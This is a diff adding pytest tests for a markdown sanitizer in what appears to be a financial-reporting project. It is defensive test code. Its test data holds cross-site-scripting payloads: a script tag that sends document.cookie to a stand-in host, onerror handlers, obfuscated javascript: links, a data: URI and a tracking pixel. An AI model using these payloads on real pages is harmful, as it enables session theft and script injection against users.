@@ -10,6 +10,7 @@ import polars as pl
 import pytest
 
 from dynalloc_dagster.bedrock.grounding import check_grounding
+from dynalloc_dagster.bedrock.markdown import safe_markdown
 from dynalloc_dagster.bedrock.narrative import (
     OFFLINE_AUTHOR,
     SECTIONS,
@@ -116,3 +117,35 @@ def _random_tables(rng: np.random.Generator) -> ReportTables:
                                              "vol_window_months", "risk_aversion")},
                      "equity_weight": float(rng.uniform()), "as_of": dt.date(2026, 3, 31)},
     )
+
+
+HOSTILE = [
+    ("Intro <script>fetch('https://x.example/?c='+document.cookie)</script>end.",
+     "Intro end."),
+    ("<SCRIPT type='text/javascript'>alert(1)", ""),
+    ("A <img src=x onerror=alert(1)> B <b>bold</b> <!-- hidden -->C", "A  B bold C"),
+    ("![chart](https://tracker.example/pixel.png?id=1) seen", "chart seen"),
+    ("![logo][ref] ok", "logo ok"),
+    ("[click](javascript:alert(1)) now", "click) now"),
+    ("[click](JaVaScRiPt:alert`1`) now", "click now"),
+    ("[click](&#106;avascript:alert`1`)", "click"),
+    ("[data](data:text/html;base64,PHNjcmlwdD4=)", "data"),
+    ("<javascript:alert(1)> link", " link"),
+    ("[ref]: javascript:alert(1)\nbody", "\nbody"),
+]
+KEPT = [
+    "## Risks and limits\n\n- Sharpe < 0.5 in **bear**; robustness > 0.8\n",
+    "See [the study](https://example.com/study \"title\") and [notes](#risks).",
+    "| a | b |\n|---|---|\n| 1 | 2 |",
+    "[ref]: https://example.com/x\nbody",
+]
+
+
+@pytest.mark.parametrize(("text", "safe"), HOSTILE)
+def test_safe_markdown_drops_what_a_viewer_would_run_or_fetch(text: str, safe: str) -> None:
+    assert safe_markdown(text) == safe
+
+
+@pytest.mark.parametrize("text", KEPT)
+def test_safe_markdown_keeps_ordinary_markdown(text: str) -> None:
+    assert safe_markdown(text) == text
